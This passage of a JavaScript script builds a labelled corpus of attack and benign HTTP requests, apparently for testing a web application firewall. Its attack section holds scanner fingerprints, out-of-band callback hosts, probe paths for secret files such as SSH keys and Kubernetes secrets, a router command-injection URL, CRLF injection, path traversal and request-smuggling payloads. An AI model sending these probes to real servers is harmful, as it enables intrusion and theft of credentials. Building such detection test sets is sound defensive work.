    openvas: 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)',
    w3af: 'w3af.org',
    wfuzz: 'Wfuzz/3.1.0',
    whatweb: 'WhatWeb/0.5.5',
    feroxbuster: 'feroxbuster/2.10.4',
    wapiti: 'Mozilla/5.0 (Windows NT 6.1; rv:45.0) Gecko/20100101 Firefox/45.0 wapiti',
    skipfish: 'Mozilla/5.0 SF/2.10b',
    acunetix:
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/93.0.4577.63 Safari/537.36 Acunetix',
    xsstrike: 'XSStrike',
    joomscan: 'Mozilla/5.0 joomscan',
    droopescan: 'droopescan',
    zgrab: 'Mozilla/5.0 zgrab/0.x',
    tplmap: 'tplmap/0.5',
    sstimap: 'SSTImap/1.2.0',
    dotdotpwn: 'DotDotPwn v3.0.2',
    'mozilla/4.0 (hydra)': 'Mozilla/4.0 (Hydra)',
    jorgee: 'Mozilla/5.0 Jorgee',
    zmeu: 'ZmEu',
    'nuclei-fragment': 'Mozilla/5.0 (X11; Linux x86_64) nuclei',
    graphw00f: 'graphw00f',
    ghauri: 'Ghauri/1.3.2',
    whatwaf: 'whatwaf/2.1.0',
  }
  const listed = crsData('scanners-user-agents.data').map((s) => s.toLowerCase())
  for (const [name, value] of Object.entries(named))
    if (listed.some((f) => name.startsWith(f) || value.toLowerCase().includes(f))) ua(value, fragments)
  // Header fingerprints from CRS's former scanner-header list, and out-of-band callback hosts.
  const headersKey = source(
    'crs-data-scanners-headers',
    REPOS.crs.repo,
    `rules/scanners-headers.data at ${CRS_SCANNER_DATA_COMMIT} (removed in CRS 4)`,
    REPOS.crs.licence,
  )
  const headerPrints = [
    ['acunetix-product', 'WVS/14.0 (Acunetix Web Vulnerability Scanner - Normal)'],
    ['acunetix-scanning-agreement', 'Third Party Scanning PROHIBITED'],
    ['acunetix-user-agreement', 'http://www.acunetix.com/wvs/disc.htm'],
    ['x-scanner', 'Netsparker'],
    ['x-ratproxy-loop', '1'],
    ['range', 'bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6,5-7,5-8,5-9,5-10,5-11,5-12,5-13,5-14'],
    ['cookie', 'myvar=1234'],
  ]
  for (const [name, value] of headerPrints)
    push(attacks, 'attack_tool', {
      field: name === 'cookie' ? 'cookie' : `header:${name}`,
      ...request({ path: '/', headers: { [name]: value } }),
      encoding: 'raw',
      source: headersKey,
    })
  const oast = source(
    'oast-hosts',
    'projectdiscovery/interactsh; PortSwigger Burp Collaborator documentation',
    'interactsh default servers (oast.pro, oast.live, oast.site, oast.online, oast.fun, oast.me); Collaborator domains burpcollaborator.net, oastify.com; the subdomains are made up',
    'MIT (interactsh)',
  )
  const callbacks = [
    ['header:referer', 'referer', 'http://c8x1q2w3e4r5t6y7.oast.pro/'],
    ['header:x-forwarded-host', 'x-forwarded-host', 'c8x1q2w3e4r5t6y7.oast.fun'],
    ['header:origin', 'origin', 'https://c8x1q2w3e4r5t6y7.oast.live'],
    ['header:x-forwarded-for', 'x-forwarded-for', 'c8x1q2w3e4r5t6y7.oast.site'],
    ['header:referer', 'referer', 'http://3xk9d0v8q7p6.burpcollaborator.net/'],
    ['header:x-forwarded-host', 'x-forwarded-host', 'z1y2x3w4v5u6.oastify.com'],
    ['header:true-client-ip', 'true-client-ip', 'p0o9i8u7y6t5.oastify.com'],
    ['header:x-wap-profile', 'x-wap-profile', 'http://a1b2c3d4e5f6.oast.me/wap.xml'],
  ]
  for (const [field, name, value] of callbacks)
    push(attacks, 'attack_tool', {
      field,
      ...request({ path: '/', headers: { [name]: value } }),
      encoding: 'raw',
      source: oast,
    })
  push(attacks, 'attack_tool', {
    field: 'query',
    ...request({ path: '/?url=http%3A%2F%2Fc8x1q2w3e4r5t6y7.oast.online%2F' }),
    encoding: 'pct',
    source: oast,
  })
}

// Paths only scanners request
{
  const scan = (path, src) =>
    push(attacks, 'scanner_path', {
      field: 'path',
      ...request({ path: wireSafe(path) }),
      encoding: 'plain',
      source: src,
    })
  const restricted = source(
    'crs-data-restricted-files',
    REPOS.crs.repo,
    'rules/restricted-files.data',
    REPOS.crs.licence,
  )
  const files = crsData('restricted-files.data')
  for (const f of spread(
    files.filter((f) => f.startsWith('.')),
    30,
  ))
    scan(`/${f.endsWith('/') ? `${f}config` : f}`, restricted)
  for (const f of spread(
    files.filter((f) => !f.startsWith('.')),
    12,
  ))
    scan(`/${f.replace(/^\//, '')}`, restricted)
  const ai = source(
    'crs-data-ai-critical-artifacts',
    REPOS.crs.repo,
    'rules/ai-critical-artifacts.data',
    REPOS.crs.licence,
  )
  const aiFiles = {
    '.claude/': 'settings.local.json',
    '.cursor/': 'mcp.json',
    '.continue/': 'config.json',
    '.aider/': 'chat.history.md',
    '.roo/': 'mcp.json',
    '.cline/': 'mcp_settings.json',
    '.windsurf/': 'rules.md',
    '.codex/': 'config.toml',
    '.gemini/': 'settings.json',
    '.kiro/': 'settings/mcp.json',
  }
  for (const d of crsData('ai-critical-artifacts.data')) if (aiFiles[d]) scan(`/${d}${aiFiles[d]}`, ai)
  const urls = source(
    'crs-data-scanners-urls',
    REPOS.crs.repo,
    `rules/scanners-urls.data at ${CRS_SCANNER_DATA_COMMIT} (removed in CRS 4)`,
    REPOS.crs.licence,
  )
  for (const u of crsData('scanners-urls.data', CRS_SCANNER_DATA_COMMIT).filter((u) => u.startsWith('/')))
    scan(u, urls)
  const quick = source(
    'seclists-quickhits',
    'danielmiessler/SecLists',
    'Discovery/Web-Content/quickhits.txt (at 04d9eeea1186)',
    'MIT',
  )
  for (const p of [
    '.git/config',
    '.git/HEAD',
    '.svn/entries',
    '.hg/requires',
    '.bzr/README',
    '.DS_Store',
    '.idea/workspace.xml',
    '.env.php',
    '.htaccess.bak',
    '.ssh/id_rsa',
    '.gitlab-ci.yml',
    'actuator/env',
    'actuator/heapdump',
    'actuator/jolokia',
    'adminer.php',
    'admin/phpmyadmin/',
    'app/etc/local.xml',
    'app/config/parameters.yml',
    'backup.sql',
    'backup.tar.gz',
    'bitrix/php_interface/dbconn.php.bak',
    'config.inc.php.bak',
    'config/database.yml',
    'configuration.php~',
    'cgi-bin/awstats.pl',
    'docker-compose.yml',
    'dump.rdb',
    'dump.sql',
    'elfinder/elfinder.php',
    'graphql/console',
    'haproxy_stats',
    'invoker/JMXInvokerServlet',
    'jenkins/script',
    'jmx-console/',
    'jolokia',
    'manager/html',
    'nginx_status',
    'phpinfo.php',
    'phpMyAdmin/scripts/setup.php',
    'phpRedisAdmin/',
    'server-status/',
    'sftp-config.json',
    'telescope',
    'Trace.axd',
    'web-console/ServerInfo.jsp',
    'WEB-INF/web.xml',
    'web.config.bak',
    'wp-config.php.swp',
    'wp-content/debug.log',
    'xampp/phpmyadmin/',
  ])
    scan(`/${p}`, quick)
  // Paths named in public advisories and product documentation; the entry's note says which.
  const advisories = source(
    'advisory-paths',
    'public advisories and product documentation',
    "see each entry's `note` (product, CVE or documented endpoint)",
    'facts',
  )
  for (const [p, note] of [
    ['/_ignition/health-check', 'Laravel Ignition, CVE-2021-3129'],
    ['/_ignition/execute-solution', 'Laravel Ignition, CVE-2021-3129'],
    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'PHPUnit, CVE-2017-9841'],
    ['/_profiler/phpinfo', 'Symfony web profiler left enabled'],
    ['/debug/pprof/', 'Go net/http/pprof handler'],
    ['/debug/vars', 'Go expvar handler'],
    ['/__debug__/', 'Django debug toolbar'],
    ['/_cat/indices?v', 'Elasticsearch cat API'],
    ['/_search?q=*', 'Elasticsearch search API'],
    ['/_all_dbs', 'Apache CouchDB API'],
    ['/_utils/', 'Apache CouchDB Fauxton'],
    ['/solr/admin/cores?action=STATUS&wt=json', 'Apache Solr CoreAdmin API'],
    ['/v1/kv/?recurse', 'HashiCorp Consul KV API'],
    ['/v2/keys/?recursive=true', 'etcd v2 keys API'],
    ['/api/v1/namespaces/default/secrets', 'Kubernetes API server'],
    ['/console/login/LoginForm.jsp', 'Oracle WebLogic console'],
    ['/HNAP1/', 'D-Link HNAP'],
    ['/cgi-bin/luci/;stok=/locale', 'OpenWrt LuCI (TP-Link CVE-2023-1389)'],
    ['/boaform/admin/formLogin', 'Boa-based router admin (Realtek SDK)'],
    ['/GponForm/diag_Form?images/', 'GPON routers, CVE-2018-10561'],
    ['/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id', 'Netgear DGN setup.cgi'],
    ['/.vscode/sftp.json', 'VS Code SFTP extension config'],
    ['/.mcp.json', 'Model Context Protocol client config'],
    ['/.github/workflows/deploy.yml', 'GitHub Actions workflow'],
    ['/.circleci/config.yml', 'CircleCI config'],
  ])
    push(attacks, 'scanner_path', {
      field: 'path',
      ...request({ path: wireSafe(p) }),
      encoding: 'plain',
      note,
      source: advisories,
    })
  addCrs('scanner_path', ['930140'], 6)
}

// Protocol attacks: CR/LF, NUL, invalid or overlong UTF-8, %u escapes, broken escapes, double encoding
{
  const crlf = patt('CRLF Injection/Files/crlfinjection.txt')
  for (const p of crlf.list)
    push(attacks, 'protocol', {
      field: 'path',
      ...request({ path: wireSafe(p) }),
      encoding: 'asis',
      source: crlf.key,
    })
  addCrs(
    'protocol',
    [
      '921110',
      '921120',
      '921130',
      '921140',
      '921150',
      '921151',
      '921160',
      '921190',
      '920240',
      '920250',
      '920260',
      '920270',
      '920271',
      '920272',
    ],
    3,
  )
  const key = source(
    'protocol-encodings',
    'composed for this corpus',
    'after the classes CRS tests in REQUEST-920-PROTOCOL-ENFORCEMENT (URL-encoding abuse, invalid UTF-8, %u, NUL) and REQUEST-921-PROTOCOL-ATTACK (CR/LF), PayloadsAllTheThings CRLF Injection/README.md, and RFC 9112 message syntax for the raw requests',
    'facts',
  )
  const forms = [
    ['body', 'name=alice%0d%0aSet-Cookie:%20admin=1'],
    ['body', 'redirect=%2Fhome%0D%0ALocation:%20https://evil.example/'],
    ['body', 'email=a@example.com%0ABcc:victim@example.com'],
    ['body', 'q=%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection'],
    ['body', 'name=%c0%ae%c0%ae'],
    ['body', 'q=%u003cscript%u003ealert(1)%u003c/script%u003e'],
    ['body', 'q=%%32%65%%32%65%%32%66'],
  ]
  for (const [field, body] of forms)
    push(attacks, 'protocol', {
      field,
      ...request({ method: 'POST', path: '/form', body, contentType: 'application/x-www-form-urlencoded' }),
      encoding: 'asis',
      source: key,
    })
  const targets = [
    '/search?q=caf%C3',
    '/search?q=%C0%BC%C0%BE',
    '/search?q=%E0%80%AF',
    '/search?q=%F0%80%80%AF',
    '/search?q=%FF%FE%00%00',
    '/search?q=%ED%A0%80',
    '/search?q=%uFF1Cscript%uFF1E',
    '/search?q=%u2215etc%u2215passwd',
    '/search?q=100%',
    '/search?q=%zz%G1',
    '/search?q=%2',
    '/search?q=%253Cscript%253E',
    '/search?q=%25u0027',
    '/%2570%2561%2573%2573%2577%2564',
    '/download?file=report.pdf%00.jpg',
  ]
  for (const path of targets)
    push(attacks, 'protocol', {
      field: path.includes('?') ? 'query' : 'path',
      ...request({ path }),
      encoding: 'asis',
      source: key,
    })
  push(attacks, 'protocol', {
    field: 'cookie',
    ...request({ path: '/', headers: { cookie: 'lang=en%0d%0aSet-Cookie:%20session=attacker' } }),
    encoding: 'asis',
    source: key,
  })
  push(attacks, 'protocol', {
    field: 'header:referer',
    ...request({ path: '/', headers: { referer: 'https://example.org/%0d%0aX-Injected:%201' } }),
    encoding: 'asis',
    source: key,
  })
  // Requests Node's client cannot send (raw CR/LF in a header value, raw control characters and
  // non-ASCII bytes in the target): sent as raw bytes over a socket. `rawRequest` holds one
  // character per byte (latin1).
  const raw = (field, text, note) =>
    push(attacks, 'protocol', {
      field,
      method: text.split(' ')[0],
      path: wireSafe(text.split(' ')[1] ?? '/'),
      headers: {},
      body: null,
      contentType: null,
      encoding: 'raw',
      raw: true,
      rawRequest: text,
      note,
      source: key,
    })
  raw(
    'header:x-custom',
    'GET / HTTP/1.1\r\nHost: localhost\r\nX-Custom: a\nInjected: 1\r\n\r\n',
    'bare LF inside a header value',
  )
  raw(
    'header:user-agent',
    'GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: x\rSet-Cookie: a=b\r\n\r\n',
    'bare CR inside a header value',
  )
  raw('path', 'GET /index.html\x00.txt HTTP/1.1\r\nHost: localhost\r\n\r\n', 'raw NUL in the target')
  raw('path', 'GET /caf\xc3 HTTP/1.1\r\nHost: localhost\r\n\r\n', 'truncated UTF-8 byte in the target')
  raw(
    'path',
    'GET /\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/etc/passwd HTTP/1.1\r\nHost: localhost\r\n\r\n',
    'overlong UTF-8 dots as raw bytes',
  )
  raw('path', 'GET /a b HTTP/1.1\r\nHost: localhost\r\n\r\n', 'raw space in the target')
  raw(
    'header:host',
    'GET / HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n',
    'duplicated Host header',
  )
  raw(
    'header:content-length',
    'POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcd',
    'conflicting Content-Length headers',
  )
  raw(
    'header:transfer-encoding',
    'POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    'Content-Length with Transfer-Encoding (smuggling)',
  )
  raw(
    'header:x-folded',
    'GET / HTTP/1.1\r\nHost: localhost\r\nX-Folded: a\r\n b\r\n\r\n',
    'obsolete line folding',
  )
}

// ---------------------------------------------------------------------------------------------
// Benign

const benign = []
function ok(kind, field, req, src) {
  push(benign, 'benign', { kind, field, ...req, source: src })
}
const HAND = source('handwritten', 'this repository', 'test/corpus/build/handwritten.mjs', 'MIT')

{
  // Browser, app and crawler user agents.
  const uapKey = source('uap-core-test-ua', REPOS.uap.repo, 'tests/test_ua.yaml', REPOS.uap.licence)
  const cases = YAML.parse(show('uap', 'tests/test_ua.yaml')).test_cases
  const families = [
    'Chrome',
    'Firefox',
    'Safari',
    'Mobile Safari',
    'Mobile Safari UI/WKWebView',
    'Edge',
    'Edge Mobile',
    'Chrome Mobile',
    'Chrome Mobile iOS',
    'Chrome Mobile WebView',
    'Samsung Internet',
    'Opera',
    'Opera Mini',
    'Opera Mobile',
    'Brave',
    'Vivaldi',
    'Yandex Browser',
    'UC Browser',
    'Whale',
    'Firefox Mobile',
    'Firefox iOS',
    'Facebook',
    'Instagram',
    'Pinterest',
    'Twitter',
    'Telegram',
    'WeChat Browser',
    'Outlook',
    'Thunderbird',
    'Spotify',
    'Amazon Silk',
    'IE',
    'CFNetwork',
    'Python Requests',
    'Python-urllib',
    'curl',
    'Wget',
    'okhttp',
    'Java',
    'aws-sdk-java',
    'Apple Mail',
    'WordPress',
  ]
  for (const family of families) {
    const uas = unique(cases.filter((c) => c.family === family).map((c) => c.user_agent_string)).filter(
      (u) => /^[\x20-\x7e]+$/.test(u) && u.length < 400,
    )
    for (const u of spread(uas, 5))
      ok('ua', 'header:user-agent', request({ path: '/', headers: { 'user-agent': u } }), uapKey)
  }
  const crawlerKey = source(
    'crawler-user-agents',
    REPOS.crawlers.repo,
    'crawler-user-agents.json',
    REPOS.crawlers.licence,
  )
  const crawlers = JSON.parse(show('crawlers', 'crawler-user-agents.json'))
  const wanted =
    /^(Googlebot\\\/|Googlebot-Image|bingbot|Applebot|DuckDuckBot|YandexBot|Baiduspider|facebookexternalhit|Twitterbot|LinkedInBot|Slackbot|Discordbot|GPTBot|ClaudeBot|CCBot|AhrefsBot|SemrushBot|PetalBot|Pinterestbot|redditbot)/
  for (const c of crawlers.filter((c) => wanted.test(c.pattern)))
    for (const u of spread(
      c.instances.filter((u) => /^[\x20-\x7e]+$/.test(u)),
      2,
    ))
      ok('ua', 'header:user-agent', request({ path: '/', headers: { 'user-agent': u } }), crawlerKey)
  for (const u of hw.CLIENT_UAS)
    ok('ua', 'header:user-agent', request({ path: '/api/v1/status', headers: { 'user-agent': u } }), HAND)
}

{
  // Search-box input that once tripped libinjection (its false-positive list), as sent by a browser.
  const key = source(
    'libinjection-false_positives',
    REPOS.libinjection.repo,
    'data/false_positives.txt',
    REPOS.libinjection.licence,
  )
  const list = lines(show('libinjection', 'data/false_positives.txt')).filter(
    (l) =>
      l.length > 3 &&
      l.length < 300 &&
      /[a-z]/i.test(l) &&
      !/(--|\/\*|#|<|>|%3C|%3E|^['"]|\\|;|\||&&|0x|[0-9]'|'[0-9]|=|\(\)|\)\)|union|select)/i.test(l),
  )
  for (const l of spread(list, 110))
    ok(
      'search',
      'query',
      request({ path: `/search?q=${wireSafe(l.replace(/ /g, '+')).replace(/&/g, '%26')}` }),
      key,
    )
}

{
  const enc = (s) => encodeValue(s, 'plus')
  hw.PROSE.forEach((t, i) => {
    ok('text', 'query', request({ path: `/search?q=${enc(t)}` }), HAND)
    ok(
      'form',
      'body',
      request({
        method: 'POST',
        path: '/comments',
        body: `comment=${enc(t)}&post_id=${100 + i}`,
        contentType: 'application/x-www-form-urlencoded',
      }),
      HAND,
    )
    ok(
      'json',
      'body',
      request({
        method: 'POST',
        path: '/api/v1/messages',
        body: JSON.stringify({ text: t, channel: 'general' }),
        contentType: 'application/json',
      }),
      HAND,
    )
  })
  hw.SEARCHES.forEach((t) => {
    ok('search', 'query', request({ path: `/search?q=${enc(t)}` }), HAND)
    ok('search', 'query', request({ path: `/api/v2/search?query=${encodeValue(t, 'pct')}&page=1` }), HAND)
  })
  hw.I18N.forEach((t, i) => {
    ok('i18n', 'query', request({ path: `/search?q=${encodeValue(t, 'pct')}&lang=auto` }), HAND)
    ok(
      'i18n',
      'body',
      request({
        method: 'POST',
        path: '/api/v1/notes',
        body: JSON.stringify({ title: t, pinned: i % 2 === 0 }),
        contentType: 'application/json',
      }),
      HAND,
    )
    ok(
      'i18n',
      'body',
      request({
        method: 'POST',
        path: '/contact',
        body: `message=${enc(t)}`,
        contentType: 'application/x-www-form-urlencoded',
      }),
      HAND,
    )
  })
  hw.URLS.forEach((u, i) => {
    ok('url', 'query', request({ path: `/redirect?to=${encodeValue(u, 'pct')}` }), HAND)
    ok('url', 'query', request({ path: `/share?url=${encodeValue(u, 'plain')}&utm_source=app${i}` }), HAND)
    ok(
      'url',
      'body',
      request({
        method: 'POST',
        path: '/api/v1/bookmarks',
        body: JSON.stringify({ url: u, tags: ['read-later'] }),
        contentType: 'application/json',
      }),
      HAND,
    )
  })
  hw.FILENAMES.forEach((f) => {
    ok('path', 'path', request({ path: `/files/${encodePath(f, 'pct')}` }), HAND)
    ok(
      'json',
      'body',
      request({
        method: 'POST',
        path: '/api/v1/uploads',
        body: JSON.stringify({ filename: f, size: 20480, type: 'application/octet-stream' }),
        contentType: 'application/json',
      }),
      HAND,
    )
  })
  hw.VALUES.forEach((v, i) => {
    ok('text', 'query', request({ path: `/api/v1/lookup?value=${encodeValue(v, 'pct')}&n=${i}` }), HAND)
    ok(
      'form',
      'body',
      request({
        method: 'POST',
        path: '/profile',
        body: `field=${i}&value=${enc(v)}`,
        contentType: 'application/x-www-form-urlencoded',
      }),
      HAND,
    )
  })
  hw.FORUM_POSTS.forEach((p) => {
    ok(
      'json',
      'body',
      request({
        method: 'POST',
        path: '/api/v1/posts',
        body: JSON.stringify(p),
        contentType: 'application/json',
      }),
      HAND,
    )
    ok(
      'form',
      'body',
      request({
        method: 'POST',
        path: '/forum/new',
        body: `title=${enc(p.title)}&body=${enc(p.body)}`,
        contentType: 'application/x-www-form-urlencoded',
      }),
      HAND,
    )
  })
  for (const d of hw.DOCUMENTS)
    ok(
      'json',
      'body',
      request({
        method: 'POST',
        path: '/api/v1/documents',
        body: JSON.stringify(d, null, 2),
        contentType: 'application/json',
      }),
      HAND,
    )
  ok(
    'json',
    'body',
    request({
      method: 'POST',
      path: '/api/v1/bulk',
      body: JSON.stringify({
        items: hw.DOCUMENTS.concat(hw.FORUM_POSTS),
        meta: { count: hw.DOCUMENTS.length + hw.FORUM_POSTS.length },
      }),
      contentType: 'application/json',
    }),
    HAND,
  )
  hw.FORMS.forEach((f) => {
    const body = Object.entries(f)
      .map(([k, v]) => `${k}=${enc(v)}`)
      .join('&')
    ok(
      'form',
      'body',
      request({ method: 'POST', path: '/submit', body, contentType: 'application/x-www-form-urlencoded' }),
      HAND,
    )
    ok(
      'json',
      'body',
      request({
        method: 'POST',
        path: '/api/v1/submit',
        body: JSON.stringify(f),
        contentType: 'application/json',
      }),
      HAND,
    )
  })
  for (const p of hw.PATHS) ok('path', 'path', request({ path: p }), HAND)
  for (const c of hw.COOKIES)
    ok('cookie', 'cookie', request({ path: '/account', headers: { cookie: headerSafe(c) } }), HAND)
  for (const r of hw.REFERERS)
    ok('header', 'header:referer', request({ path: '/pricing', headers: { referer: r } }), HAND)
}

// ---------------------------------------------------------------------------------------------

function writeJsonl(name, entries) {
  const seen = new Set()
  for (const e of entries) {
    if (seen.has(e.id)) throw new Error(`duplicate id ${e.id}`)
    seen.add(e.id)
    if (/[^\x21-\x7e]/.test(e.path)) throw new Error(`${e.id}: target not wire-safe: ${e.path}`)
    for (const [k, v] of Object.entries(e.headers))
      if (!/^[\t\x20-\x7e]*$/.test(v)) throw new Error(`${e.id}: header ${k} not legal: ${JSON.stringify(v)}`)
  }
  writeFileSync(join(corpusDir, name), entries.map((e) => JSON.stringify(e)).join('\n') + '\n')
}

writeJsonl('attacks.jsonl', attacks)
writeJsonl('benign.jsonl', benign)

const used = new Set([...attacks, ...benign].map((e) => e.source))
const rows = [...SOURCES.entries()]
  .filter(([key]) => used.has(key))
  .sort(([a], [b]) => a.localeCompare(b))
  .map(([key, s]) => {
    const commit = Object.values(REPOS).find((r) => r.repo === s.repo)?.commit
    const at = commit && !s.path.includes(' at ') ? ` (at ${commit.slice(0, 12)})` : ''
    return `| \`${key}\` | ${s.repo} | ${s.path}${at} | ${s.licence} |`
  })
const sourcesPath = join(corpusDir, 'SOURCES.md')
const md = readFileSync(sourcesPath, 'utf8')
const table = ['| key | repository | path | licence |', '|---|---|---|---|', ...rows].join('\n')
writeFileSync(sourcesPath, md.replace(/(<!-- keys:start -->\n)[\s\S]*?(<!-- keys:end -->)/, `$1${table}\n$2`))

function count(list) {
  const out = {}
  for (const e of list) out[e.kind ?? e.category] = (out[e.kind ?? e.category] ?? 0) + 1
  return out
}
console.log('attacks', attacks.length, count(attacks))
console.log('benign', benign.length, count(benign))
